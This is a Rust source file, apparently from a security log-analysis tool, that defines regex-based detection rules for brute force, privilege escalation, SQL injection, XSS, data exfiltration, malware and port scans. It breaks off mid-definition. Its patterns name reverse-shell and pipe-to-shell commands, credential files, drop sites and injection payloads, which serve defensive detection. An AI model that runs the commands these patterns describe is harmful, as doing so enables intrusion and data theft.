//! Rule catalog.
//!
//! One row per [`AnomalyType`]: a matcher that reads the per-batch
//! [`BatchIndex`] and returns [`Evidence`], a description template and a
//! recommendation. Matchers are plain functions over borrowed data, so the
//! catalog can be evaluated in any order or in parallel.
//!
//! Confidence is derived from evidence strength: every matcher starts from a
//! base value and adds a fixed increment per extra unit of evidence
//! (repeat count, distinct markers, corroborating entities), clamped to
//! [`MAX_RULE_CONFIDENCE`]. A matcher that finds nothing returns `None`.

use regex::Regex;
use std::collections::{HashMap, HashSet};
use std::sync::LazyLock;

use crate::config::DetectionConfig;
use crate::detect::entities::{is_internal_ip, BatchIndex, LineRecord};
use crate::detect::types::{AnomalyType, Finding, Provenance, ThreatLevel};

// ============================================================================
// CONSTANTS
// ============================================================================

/// Rules never claim certainty.
pub const MAX_RULE_CONFIDENCE: f64 = 0.99;

/// Destination ports commonly used by reverse shells and IRC/Tor C2.
const SUSPICIOUS_PORTS: &[u16] = &[1337, 4444, 5555, 6666, 6667, 9001, 31337];

// ============================================================================
// TUNING
// ============================================================================

/// Per-rule thresholds, taken from `[detection]` in the config file.
#[derive(Debug, Clone)]
pub struct RuleTuning {
    /// Failures from one source needed for a brute force finding.
    pub brute_force_threshold: usize,
    /// Distinct destination ports from one source needed for a port scan finding.
    pub port_scan_threshold: usize,
    /// Outbound volume that counts as "large" on its own.
    pub exfil_bytes_threshold: u64,
}

impl Default for RuleTuning {
    fn default() -> Self {
        Self {
            brute_force_threshold: 3,
            port_scan_threshold: 5,
            exfil_bytes_threshold: 100 * 1024 * 1024,
        }
    }
}

impl From<&DetectionConfig> for RuleTuning {
    fn from(cfg: &DetectionConfig) -> Self {
        Self {
            brute_force_threshold: cfg.brute_force_threshold.max(1),
            port_scan_threshold: cfg.port_scan_threshold.max(2),
            exfil_bytes_threshold: cfg.exfil_bytes_threshold,
        }
    }
}

// ============================================================================
// CATALOG
// ============================================================================

/// What a matcher found, before templates are applied.
#[derive(Debug, Clone, PartialEq)]
pub struct Evidence {
    pub severity: ThreatLevel,
    pub confidence: f64,
    /// Implicated entities in first-seen order.
    pub resources: Vec<String>,
    /// Number of qualifying log lines.
    pub hits: usize,
    /// Short human-readable specifics, spliced into the description.
    pub detail: String,
}

type Matcher = fn(&BatchIndex<'_>, &RuleTuning) -> Option<Evidence>;

/// One catalog row.
pub struct RuleSpec {
    pub kind: AnomalyType,
    pub matcher: Matcher,
    pub title: &'static str,
    pub recommendation: &'static str,
}

impl RuleSpec {
    /// Run the matcher and turn its evidence into a rule-sourced finding.
    pub fn evaluate(&self, index: &BatchIndex<'_>, tuning: &RuleTuning) -> Option<Finding> {
        let evidence = (self.matcher)(index, tuning)?;
        tracing::debug!(
            kind = %self.kind,
            severity = %evidence.severity,
            confidence = evidence.confidence,
            hits = evidence.hits,
            "rule matched"
        );
        Some(Finding::new(
            self.kind,
            evidence.severity,
            format!("{}: {}", self.title, evidence.detail),
            self.recommendation,
            evidence.confidence.min(MAX_RULE_CONFIDENCE),
            evidence.resources,
            Provenance::Rule,
        ))
    }
}

pub static CATALOG: [RuleSpec; 8] = [
    RuleSpec {
        kind: AnomalyType::BruteForce,
        matcher: brute_force,
        title: "Brute force attack detected",
        recommendation: "Block the offending source at the firewall, enforce account lockout and rate limiting, and require MFA for exposed logins.",
    },
    RuleSpec {
        kind: AnomalyType::PrivilegeEscalation,
        matcher: privilege_escalation,
        title: "Privilege escalation attempt",
        recommendation: "Review sudoers and group memberships, audit recent commands of the implicated accounts, and revoke unexpected elevated rights.",
    },
    RuleSpec {
        kind: AnomalyType::SqlInjection,
        matcher: sql_injection,
        title: "SQL injection attempt",
        recommendation: "Use parameterized queries, validate request input, and enable WAF SQL injection rules for the affected endpoints.",
    },
    RuleSpec {
        kind: AnomalyType::Xss,
        matcher: xss,
        title: "Cross-site scripting attempt",
        recommendation: "Encode output by context, validate input, and deploy a strict Content-Security-Policy.",
    },
    RuleSpec {
        kind: AnomalyType::DataExfiltration,
        matcher: data_exfiltration,
        title: "Possible data exfiltration",
        recommendation: "Isolate the source host, block the destination, and review egress filtering and DLP policy for the transferred data.",
    },
    RuleSpec {
        kind: AnomalyType::Malware,
        matcher: malware,
        title: "Malware indicator",
        recommendation: "Quarantine the affected host, run a full endpoint scan, and rotate credentials used on it.",
    },
    RuleSpec {
        kind: AnomalyType::PortScan,
        matcher: port_scan,
        title: "Port scan detected",
        recommendation: "Block the scanning source, close unused ports, and confirm IDS/IPS signatures are current.",
    },
    RuleSpec {
        kind: AnomalyType::UnauthorizedAccess,
        matcher: unauthorized_access,
        title: "Unauthorized access attempt",
        recommendation: "Verify access controls on the restricted resources, require authentication, and review logs for successful access.",
    },
];

/// Catalog row for a category.
pub fn rule_for(kind: AnomalyType) -> &'static RuleSpec {
    // CATALOG has one row per AnomalyType::ALL entry, in the same order.
    let pos = AnomalyType::ALL.iter().position(|k| *k == kind).unwrap_or(0);
    &CATALOG[pos]
}

/// Evaluate every rule over one index. Output is in catalog order.
pub fn evaluate_all(index: &BatchIndex<'_>, tuning: &RuleTuning) -> Vec<Finding> {
    if index.is_empty() {
        return Vec::new();
    }
    CATALOG.iter().filter_map(|rule| rule.evaluate(index, tuning)).collect()
}

// ============================================================================
// HELPERS
// ============================================================================

fn scaled(base: f64, step: f64, units: usize) -> f64 {
    (base + step * units as f64).min(MAX_RULE_CONFIDENCE)
}

/// Insertion-ordered tally keyed by entity string.
struct Ordered<T> {
    keys: Vec<String>,
    slots: HashMap<String, T>,
}

impl<T: Default> Ordered<T> {
    fn new() -> Self {
        Self { keys: Vec::new(), slots: HashMap::new() }
    }

    fn entry(&mut self, key: &str) -> &mut T {
        if !self.slots.contains_key(key) {
            self.keys.push(key.to_string());
        }
        self.slots.entry(key.to_string()).or_default()
    }

    fn get(&self, key: &str) -> Option<&T> {
        self.slots.get(key)
    }

    fn iter(&self) -> impl Iterator<Item = (&str, &T)> {
        self.keys
            .iter()
            .filter_map(|k| self.slots.get(k).map(|v| (k.as_str(), v)))
    }
}

fn push_unique(into: &mut Vec<String>, item: &str) {
    if !into.iter().any(|s| s == item) {
        into.push(item.to_string());
    }
}

fn collect_ips(lines: &[&LineRecord<'_>], into: &mut Vec<String>) {
    for line in lines {
        for ip in &line.entities.ip_addresses {
            push_unique(into, ip);
        }
    }
}

fn collect_hosts(lines: &[&LineRecord<'_>], into: &mut Vec<String>) {
    for line in lines {
        for host in &line.entities.hosts {
            push_unique(into, host);
        }
    }
}

/// Named markers that matched anywhere in `lines`.
fn distinct_markers(lines: &[&LineRecord<'_>], markers: &[(&'static str, &Regex)]) -> Vec<&'static str> {
    markers
        .iter()
        .filter(|(_, re)| lines.iter().any(|l| re.is_match(l.raw)))
        .map(|(name, _)| *name)
        .collect()
}

fn plural(n: usize, word: &str) -> String {
    if n == 1 {
        format!("{n} {word}")
    } else {
        format!("{n} {word}s")
    }
}

// ============================================================================
// BRUTE FORCE
// ============================================================================

static RE_AUTH_FAILURE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?i)\b(?:failed\s+(?:password|login|logon|auth\w*)|authentication\s+fail\w*|auth(?:entication)?\s+failure|login\s+fail\w*|invalid\s+(?:password|credentials|user)|bad\s+password|wrong\s+password|access\s+denied\s+for\s+user|too\s+many\s+authentication\s+failures|maximum\s+authentication\s+attempts)",
    )
    .expect("regex")
});

static RE_LOCKOUT: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\baccount\s+(?:locked|disabled)|\blocked\s+out\b|\btoo\s+many\s+(?:failed|authentication)").expect("regex")
});

static RE_AUTH_SUCCESS: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?i)\b(?:accepted\s+(?:password|publickey)|login\s+succe\w+|successful(?:ly)?\s+(?:login|logged\s+in|authenticated)|logged\s+in)\b",
    )
    .expect("regex")
});

#[derive(Default)]
struct AuthTrail {
    failures: usize,
    usernames: Vec<String>,
    locked: bool,
    success_after_failures: bool,
    first_seen: Option<String>,
    last_seen: Option<String>,
}

/// Usernames that appear on auth lines carrying a source IP, mapped to the
/// first such IP. Lets an IP-less line join the trail of its attacker.
fn username_sources<'i>(index: &'i BatchIndex<'_>) -> HashMap<&'i str, &'i str> {
    let mut sources = HashMap::new();
    for line in &index.lines {
        if !RE_AUTH_FAILURE.is_match(line.raw) && !RE_AUTH_SUCCESS.is_match(line.raw) {
            continue;
        }
        let Some(ip) = line.source_ip() else {
            continue;
        };
        for user in &line.entities.usernames {
            sources.entry(user.as_str()).or_insert(ip);
        }
    }
    sources
}

/// Source IP of the line, else the IP already seen for its username, else
/// the username itself.
fn auth_source<'i>(line: &'i LineRecord<'_>, by_user: &HashMap<&'i str, &'i str>) -> Option<&'i str> {
    if let Some(ip) = line.source_ip() {
        return Some(ip);
    }
    let user = line.entities.usernames.first()?;
    Some(by_user.get(user.as_str()).copied().unwrap_or(user.as_str()))
}

fn brute_force(index: &BatchIndex<'_>, tuning: &RuleTuning) -> Option<Evidence> {
    let threshold = tuning.brute_force_threshold;
    let by_user = username_sources(index);
    let mut trails: Ordered<AuthTrail> = Ordered::new();

    for line in &index.lines {
        let Some(source) = auth_source(line, &by_user) else {
            continue;
        };
        if RE_AUTH_FAILURE.is_match(line.raw) {
            let trail = trails.entry(source);
            trail.failures += 1;
            if let Some(ts) = line.timestamp() {
                trail.first_seen.get_or_insert_with(|| ts.to_string());
                trail.last_seen = Some(ts.to_string());
            }
            for user in &line.entities.usernames {
                push_unique(&mut trail.usernames, user);
            }
            if RE_LOCKOUT.is_match(line.raw) {
                trail.locked = true;
            }
        } else if RE_AUTH_SUCCESS.is_match(line.raw) {
            if trails.get(source).is_some_and(|t| t.failures >= threshold) {
                trails.entry(source).success_after_failures = true;
            }
        }
    }

    let offenders: Vec<(&str, &AuthTrail)> =
        trails.iter().filter(|(_, t)| t.failures >= threshold).collect();
    if offenders.is_empty() {
        return None;
    }

    let max_failures = offenders.iter().map(|(_, t)| t.failures).max().unwrap_or(threshold);
    let total: usize = offenders.iter().map(|(_, t)| t.failures).sum();
    let locked = offenders.iter().any(|(_, t)| t.locked);
    let compromised = offenders.iter().any(|(_, t)| t.success_after_failures);
    let single_target = offenders.iter().any(|(_, t)| t.usernames.len() == 1);

    let mut confidence = scaled(0.6, 0.07, max_failures - threshold);
    if locked {
        confidence += 0.1;
    }
    if single_target {
        confidence += 0.1;
    }

    let resources: Vec<String> = offenders.iter().map(|(s, _)| s.to_string()).collect();
    let mut detail = format!(
        "{} from {}",
        plural(total, "failed authentication attempt"),
        resources.join(", ")
    );
    let targets: Vec<&str> = offenders
        .iter()
        .flat_map(|&(_, t)| t.usernames.iter().map(String::as_str))
        .collect();
    if !targets.is_empty() {
        detail.push_str(&format!(" targeting {}", targets.join(", ")));
    }
    if let [(_, trail)] = offenders.as_slice() {
        if let (Some(first), Some(last)) = (&trail.first_seen, &trail.last_seen) {
            if first != last {
                detail.push_str(&format!(" between {first} and {last}"));
            }
        }
    }
    if locked {
        detail.push_str("; account lockout triggered");
    }
    if compromised {
        detail.push_str("; followed by a successful login");
    }

    Some(Evidence {
        severity: if compromised { ThreatLevel::Critical } else { ThreatLevel::High },
        confidence,
        resources,
        hits: total,
        detail,
    })
}

// ============================================================================
// PRIVILEGE ESCALATION
// ============================================================================

static RE_SESSION: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?i)\b(?:session\s+opened\s+for\s+user\s+([a-z_][\w.-]*)|user\s+([a-z_][\w.-]*)\s+logged\s+in|logged\s+in\s+as\s+([a-z_][\w.-]*)|accepted\s+(?:password|publickey)\s+for\s+([a-z_][\w.-]*)|sudo:\s+([a-z_][\w.-]*)\s*:)",
    )
    .expect("regex")
});

static RE_ELEVATION: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?i)(?:\bsudo\s+(?:su\b|-i\b|-s\b|bash\b|sh\b|/bin/(?:ba)?sh\b)|\bsu\s+(?:-\s+)?root\b|\bpkexec\b|\bchmod\s+(?:[0-7]?[4-7][0-7]{3}|u\+s|\+s)\b|\bsetuid\b|\be?uid=0\b|\bnopasswd\b|/etc/sudoers|/etc/shadow|\busermod\s+-a?g\s*(?:sudo|wheel|root|admin)\b|\badded\s+to\s+(?:group\s+)?(?:sudo|sudoers|wheel|admin|root)\b|\broot\s+shell\b|command=/(?:usr/)?bin/(?:ba)?sh\b|command=/(?:usr/)?bin/su\b|privilege\s+escalation|escalat\w*\s+privileges?)",
    )
    .expect("regex")
});

static RE_ELEVATION_SEVERE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)/etc/shadow|/etc/sudoers|\bnopasswd\b|\broot\s+shell\b|\be?uid=0\b").expect("regex")
});

fn session_user(line: &str) -> Option<String> {
    let caps = RE_SESSION.captures(line)?;
    (1..=5)
        .filter_map(|i| caps.get(i))
        .map(|m| m.as_str().to_string())
        .next()
}

fn privilege_escalation(index: &BatchIndex<'_>, _tuning: &RuleTuning) -> Option<Evidence> {
    // Most recent non-root session: (user, the line that opened it).
    let mut active: Option<(String, &LineRecord<'_>)> = None;
    let mut attributed: Vec<&LineRecord<'_>> = Vec::new();
    let mut unattributed: Vec<&LineRecord<'_>> = Vec::new();
    let mut users: Vec<String> = Vec::new();
    let mut session_lines: Vec<&LineRecord<'_>> = Vec::new();

    for line in &index.lines {
        if let Some(u) = session_user(line.raw) {
            active = if u.eq_ignore_ascii_case("root") { None } else { Some((u, line)) };
        }
        if !RE_ELEVATION.is_match(line.raw) {
            continue;
        }
        match &active {
            Some((u, opened)) => {
                push_unique(&mut users, u);
                if !session_lines.iter().any(|l| l.number == opened.number) {
                    session_lines.push(*opened);
                }
                attributed.push(line);
            }
            None => unattributed.push(line),
        }
    }

    if attributed.is_empty() && unattributed.is_empty() {
        return None;
    }

    let all: Vec<&LineRecord<'_>> = attributed.iter().chain(unattributed.iter()).copied().collect();
    let severe = all.iter().any(|l| RE_ELEVATION_SEVERE.is_match(l.raw));

    let mut resources = users.clone();
    collect_ips(&session_lines, &mut resources);
    collect_ips(&all, &mut resources);

    let (severity, confidence, detail) = if attributed.is_empty() {
        (
            ThreatLevel::Medium,
            scaled(0.35, 0.1, unattributed.len() - 1),
            format!(
                "{} without a preceding user session",
                plural(unattributed.len(), "elevation marker")
            ),
        )
    } else {
        let mut c = scaled(0.6, 0.1, attributed.len() - 1);
        if severe {
            c += 0.1;
        }
        (
            if severe { ThreatLevel::Critical } else { ThreatLevel::High },
            c,
            format!(
                "{} following a non-root session of {}",
                plural(attributed.len(), "elevation command"),
                users.join(", ")
            ),
        )
    };

    Some(Evidence {
        severity,
        confidence: confidence.min(MAX_RULE_CONFIDENCE),
        resources,
        hits: all.len(),
        detail,
    })
}

// ============================================================================
// SQL INJECTION
// ============================================================================

static RE_REQUEST_LINE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\b(?:GET|POST|PUT|DELETE|PATCH|HEAD)\b|https?://|\?[\w%]+=|\b(?:query|request|uri|url|param\w*|sql)\b")
        .expect("regex")
});

static RE_SQLI_UNION: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\bunion(?:\s+|\+|%20|/\*\*/)+(?:all(?:\s+|\+|%20)+)?select\b").expect("regex")
});
static RE_SQLI_TAUTOLOGY: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)(?:'|%27)\s*(?:or|and)\s*(?:'?\d+'?\s*=\s*'?\d+|'[^']*'\s*=\s*'[^']*)|\bor\s+1\s*=\s*1\b").expect("regex")
});
static RE_SQLI_COMMENT: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?:'|%27)\s*(?:--|#|/\*)").expect("regex"));
static RE_SQLI_STACKED: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)(?:;|%3b)\s*(?:drop|delete|insert|update|truncate|shutdown|exec)\b").expect("regex")
});
static RE_SQLI_TIMING: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\b(?:sleep|pg_sleep|benchmark)\s*\(|\bwaitfor\s+delay\b").expect("regex")
});
static RE_SQLI_SCHEMA: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\binformation_schema\b|\bsys(?:objects|columns)\b|\bxp_cmdshell\b").expect("regex")
});
static RE_SQLI_DESTRUCTIVE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)(?:;|%3b)\s*(?:drop|delete|truncate|shutdown)\b|\bxp_cmdshell\b").expect("regex")
});

fn sql_injection(index: &BatchIndex<'_>, _tuning: &RuleTuning) -> Option<Evidence> {
    let markers: [(&'static str, &Regex); 6] = [
        ("UNION SELECT", &*RE_SQLI_UNION),
        ("boolean tautology", &*RE_SQLI_TAUTOLOGY),
        ("comment terminator", &*RE_SQLI_COMMENT),
        ("stacked query", &*RE_SQLI_STACKED),
        ("time-based probe", &*RE_SQLI_TIMING),
        ("schema enumeration", &*RE_SQLI_SCHEMA),
    ];

    let lines: Vec<&LineRecord<'_>> = index
        .lines
        .iter()
        .filter(|l| RE_REQUEST_LINE.is_match(l.raw))
        .filter(|l| markers.iter().any(|(_, re)| re.is_match(l.raw)))
        .collect();
    if lines.is_empty() {
        return None;
    }

    let found = distinct_markers(&lines, &markers);
    let destructive = lines.iter().any(|l| RE_SQLI_DESTRUCTIVE.is_match(l.raw));
    let confidence = scaled(0.55, 0.1, found.len().saturating_sub(1)) + 0.05 * (lines.len() - 1) as f64;

    let mut resources = Vec::new();
    collect_ips(&lines, &mut resources);
    collect_hosts(&lines, &mut resources);

    Some(Evidence {
        severity: if destructive { ThreatLevel::Critical } else { ThreatLevel::High },
        confidence: confidence.min(MAX_RULE_CONFIDENCE),
        resources,
        hits: lines.len(),
        detail: format!("{} ({})", plural(lines.len(), "request"), found.join(", ")),
    })
}

// ============================================================================
// CROSS-SITE SCRIPTING
// ============================================================================

static RE_XSS_SCRIPT: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?i)<\s*/?\s*script\b|%3c\s*/?\s*script").expect("regex"));
static RE_XSS_JS_URI: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?i)\bjavascript\s*:").expect("regex"));
static RE_XSS_HANDLER: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\bon(?:error|load|mouseover|click|focus|submit)\s*=").expect("regex")
});
static RE_XSS_FRAME: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?i)<\s*(?:iframe|object|embed)\b|%3c\s*iframe").expect("regex"));
static RE_XSS_COOKIE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?i)\bdocument\.cookie\b").expect("regex"));
static RE_XSS_EVAL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\b(?:alert|prompt|eval)\s*\(|\bstring\.fromcharcode\b").expect("regex")
});

fn xss(index: &BatchIndex<'_>, _tuning: &RuleTuning) -> Option<Evidence> {
    let markers: [(&'static str, &Regex); 6] = [
        ("script tag", &*RE_XSS_SCRIPT),
        ("javascript: URI", &*RE_XSS_JS_URI),
        ("inline event handler", &*RE_XSS_HANDLER),
        ("embedded frame", &*RE_XSS_FRAME),
        ("cookie access", &*RE_XSS_COOKIE),
        ("script call", &*RE_XSS_EVAL),
    ];

    let lines: Vec<&LineRecord<'_>> = index
        .lines
        .iter()
        .filter(|l| markers.iter().any(|(_, re)| re.is_match(l.raw)))
        .collect();
    if lines.is_empty() {
        return None;
    }

    let found = distinct_markers(&lines, &markers);
    let steals_cookies = found.contains(&"cookie access");
    let confidence = scaled(0.5, 0.1, found.len().saturating_sub(1)) + 0.05 * (lines.len() - 1) as f64;

    let mut resources = Vec::new();
    collect_ips(&lines, &mut resources);
    collect_hosts(&lines, &mut resources);

    Some(Evidence {
        severity: if steals_cookies { ThreatLevel::High } else { ThreatLevel::Medium },
        confidence: confidence.min(MAX_RULE_CONFIDENCE),
        resources,
        hits: lines.len(),
        detail: format!("{} ({})", plural(lines.len(), "payload"), found.join(", ")),
    })
}

// ============================================================================
// DATA EXFILTRATION
// ============================================================================

static RE_OUTBOUND: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?i)\b(?:outbound|egress|upload(?:ed|ing)?|exfil\w*|sent|sending|transfer(?:red|ring)?|copied\s+to|tx_bytes|bytes_out)\b",
    )
    .expect("regex")
});
static RE_VOLUME: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\b(\d+(?:\.\d+)?)\s*(tib|tb|gib|gb|mib|mb|kib|kb|bytes)\b").expect("regex")
});
static RE_ANOMALY_WORD: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\b(?:unusual|anomalous|suspicious|large|abnormal|unexpected|excessive)\b").expect("regex")
});
static RE_DROP_SITE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\.onion\b|\bpastebin\.com\b|\btransfer\.sh\b|\bmega\.nz\b|\bngrok\.io\b|\banonfiles\.com\b")
        .expect("regex")
});

fn volume_bytes(line: &str) -> u64 {
    RE_VOLUME
        .captures_iter(line)
        .filter_map(|caps| {
            let amount: f64 = caps.get(1)?.as_str().parse().ok()?;
            let unit = caps.get(2)?.as_str().to_ascii_lowercase();
            let scale: f64 = match unit.as_str() {
                "tib" | "tb" => 1024f64.powi(4),
                "gib" | "gb" => 1024f64.powi(3),
                "mib" | "mb" => 1024f64.powi(2),
                "kib" | "kb" => 1024.0,
                _ => 1.0,
            };
            Some((amount * scale) as u64)
        })
        .max()
        .unwrap_or(0)
}

fn human_bytes(bytes: u64) -> String {
    const UNITS: [&str; 5] = ["B", "KB", "MB", "GB", "TB"];
    let mut value = bytes as f64;
    let mut unit = 0;
    while value >= 1024.0 && unit < UNITS.len() - 1 {
        value /= 1024.0;
        unit += 1;
    }
    if unit == 0 {
        format!("{bytes} B")
    } else {
        format!("{value:.1} {}", UNITS[unit])
    }
}

fn data_exfiltration(index: &BatchIndex<'_>, tuning: &RuleTuning) -> Option<Evidence> {
    let mut lines: Vec<&LineRecord<'_>> = Vec::new();
    let mut max_signals = 0usize;
    let mut largest = 0u64;

    for line in index.lines.iter().filter(|l| RE_OUTBOUND.is_match(l.raw)) {
        let volume = volume_bytes(line.raw);
        let signals = [
            volume >= tuning.exfil_bytes_threshold,
            RE_ANOMALY_WORD.is_match(line.raw),
            line.entities.ports.iter().any(|p| SUSPICIOUS_PORTS.contains(p)),
            RE_DROP_SITE.is_match(line.raw),
        ]
        .iter()
        .filter(|s| **s)
        .count();
        if signals == 0 {
            continue;
        }
        max_signals = max_signals.max(signals);
        largest = largest.max(volume);
        lines.push(line);
    }
    if lines.is_empty() {
        return None;
    }

    let mut destinations = Vec::new();
    for line in &lines {
        for ip in line.entities.ip_addresses.iter().filter(|ip| !is_internal_ip(ip)) {
            push_unique(&mut destinations, ip);
        }
    }
    // A destination mentioned only on the flagged line is rare within the batch.
    let rare = destinations.iter().any(|ip| index.ip_line_count(ip) == 1);
    collect_hosts(&lines, &mut destinations);
    if destinations.is_empty() {
        collect_ips(&lines, &mut destinations);
    }

    let mut confidence = scaled(0.5, 0.12, max_signals - 1) + 0.05 * (lines.len() - 1) as f64;
    if rare {
        confidence += 0.08;
    }

    let mut detail = plural(lines.len(), "suspicious outbound transfer");
    if largest > 0 {
        detail.push_str(&format!(", largest {}", human_bytes(largest)));
    }
    if !destinations.is_empty() {
        detail.push_str(&format!(" to {}", destinations.join(", ")));
    }

    Some(Evidence {
        severity: if max_signals >= 2 { ThreatLevel::Critical } else { ThreatLevel::High },
        confidence: confidence.min(MAX_RULE_CONFIDENCE),
        resources: destinations,
        hits: lines.len(),
        detail,
    })
}

// ============================================================================
// MALWARE INDICATORS
// ============================================================================

static RE_MALWARE_FAMILY: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?i)\b(?:ransomware|rootkit|wannacry|emotet|trickbot|ryuk|lockbit|cobalt\s*strike|meterpreter|mimikatz|c2\s+(?:server|beacon|callback)|command[- ]and[- ]control)\b",
    )
    .expect("regex")
});
static RE_MALWARE_GENERIC: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?i)\b(?:malware|trojan|backdoor|keylogger|botnet|spyware|virus\s+detected|infected|cryptominer|coinminer|xmrig|web\s*shell|reverse\s+shell|eicar|quarantined)\b",
    )
    .expect("regex")
});
static RE_MALWARE_EXEC: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?i)\bnc\s+(?:-\w+\s+)*-e\b|/dev/tcp/|\bpowershell(?:\.exe)?\s+.*-(?:enc|encodedcommand)\b|\bbase64\s+-d\s*\|\s*(?:ba)?sh\b|\b(?:curl|wget)\s+[^|]*\|\s*(?:ba)?sh\b",
    )
    .expect("regex")
});

fn malware(index: &BatchIndex<'_>, _tuning: &RuleTuning) -> Option<Evidence> {
    let mut lines: Vec<&LineRecord<'_>> = Vec::new();
    let mut indicators: Vec<String> = Vec::new();
    let mut family = false;

    for line in &index.lines {
        let mut hit = false;
        for re in [&*RE_MALWARE_FAMILY, &*RE_MALWARE_GENERIC, &*RE_MALWARE_EXEC] {
            for m in re.find_iter(line.raw) {
                hit = true;
                push_unique(&mut indicators, &m.as_str().to_lowercase());
            }
        }
        if RE_MALWARE_FAMILY.is_match(line.raw) {
            family = true;
        }
        if hit {
            lines.push(line);
        }
    }
    if lines.is_empty() {
        return None;
    }

    let mut resources = Vec::new();
    collect_hosts(&lines, &mut resources);
    collect_ips(&lines, &mut resources);

    let mut confidence =
        scaled(0.6, 0.08, indicators.len() - 1) + 0.05 * (lines.len() - 1) as f64;
    if !resources.is_empty() {
        confidence += 0.1;
    }

    Some(Evidence {
        severity: if family || lines.len() >= 3 { ThreatLevel::Critical } else { ThreatLevel::High },
        confidence: confidence.min(MAX_RULE_CONFIDENCE),
        resources,
        hits: lines.len(),
        detail: format!("{} ({})", plural(lines.len(), "matching line"), indicators.join(", ")),
    })
}

// ============================================================================
// PORT SCAN
// ============================================================================

static RE_SCAN_KEYWORD: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\bport\s*scan\w*|\bnmap\b|\bmasscan\b|\bzmap\b|\bsyn\s+scan\b|\bscan(?:ning)?\s+detected\b")
        .expect("regex")
});
static RE_CONNECTION: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?i)\b(?:connect\w*|syn|probe\w*|refused|reset|denied|dropped|blocked|rejected|attempt\w*|dpt=\d+|port)\b",
    )
    .expect("regex")
});
/// `from 1.2.3.4 port 51234`: a client source port, not a probed one.
static RE_SOURCE_PORT: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?i)\bfrom\s+\S+\s+port\s+(\d{1,5})\b").expect("regex"));

#[derive(Default)]
struct ProbeSet {
    ports: Vec<u16>,
}

fn longest_consecutive_run(ports: &[u16]) -> usize {
    let mut sorted = ports.to_vec();
    sorted.sort_unstable();
    sorted.dedup();
    let mut best = usize::from(!sorted.is_empty());
    let mut run = best;
    for pair in sorted.windows(2) {
        if pair[0].checked_add(1) == Some(pair[1]) {
            run += 1;
            best = best.max(run);
        } else {
            run = 1;
        }
    }
    best
}

fn port_scan(index: &BatchIndex<'_>, tuning: &RuleTuning) -> Option<Evidence> {
    let threshold = tuning.port_scan_threshold;
    let mut probes: Ordered<ProbeSet> = Ordered::new();
    let mut keyword_lines: Vec<&LineRecord<'_>> = Vec::new();

    for line in &index.lines {
        if RE_SCAN_KEYWORD.is_match(line.raw) {
            keyword_lines.push(line);
        }
        if !RE_CONNECTION.is_match(line.raw) {
            continue;
        }
        let Some(source) = line.source_ip() else {
            continue;
        };
        let client_ports: HashSet<u16> = RE_SOURCE_PORT
            .captures_iter(line.raw)
            .filter_map(|c| c.get(1)?.as_str().parse().ok())
            .collect();
        let targets: Vec<u16> = line
            .entities
            .ports
            .iter()
            .copied()
            .filter(|p| !client_ports.contains(p))
            .collect();
        if targets.is_empty() {
            continue;
        }
        let set = probes.entry(source);
        for port in targets {
            if !set.ports.contains(&port) {
                set.ports.push(port);
            }
        }
    }

    let scanners: Vec<(&str, &ProbeSet)> =
        probes.iter().filter(|(_, p)| p.ports.len() >= threshold).collect();
    if scanners.is_empty() && keyword_lines.is_empty() {
        return None;
    }

    let mut resources: Vec<String> = scanners.iter().map(|(s, _)| s.to_string()).collect();
    collect_ips(&keyword_lines, &mut resources);

    if scanners.is_empty() {
        return Some(Evidence {
            severity: ThreatLevel::Medium,
            confidence: scaled(0.55, 0.05, keyword_lines.len() - 1),
            resources,
            hits: keyword_lines.len(),
            detail: format!("scanner activity reported on {}", plural(keyword_lines.len(), "line")),
        });
    }

    let max_ports = scanners.iter().map(|(_, p)| p.ports.len()).max().unwrap_or(threshold);
    let sequential = scanners.iter().any(|(_, p)| longest_consecutive_run(&p.ports) >= 3);

    let mut confidence = scaled(0.5, 0.04, max_ports - threshold);
    if sequential {
        confidence += 0.15;
    }
    if !keyword_lines.is_empty() {
        confidence += 0.1;
    }

    let mut detail = format!(
        "{} probed by {}",
        plural(max_ports, "distinct port"),
        scanners.iter().map(|(s, _)| *s).collect::<Vec<_>>().join(", ")
    );
    if sequential {
        detail.push_str(" (sequential)");
    }

    Some(Evidence {
        severity: if max_ports >= threshold * 4 { ThreatLevel::High } else { ThreatLevel::Medium },
        confidence: confidence.min(MAX_RULE_CONFIDENCE),
        resources,
        hits: scanners.iter().map(|(_, p)| p.ports.len()).sum(),
        detail,
    })
}

// ============================================================================
// UNAUTHORIZED ACCESS
// ============================================================================

static RE_RESTRICTED: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
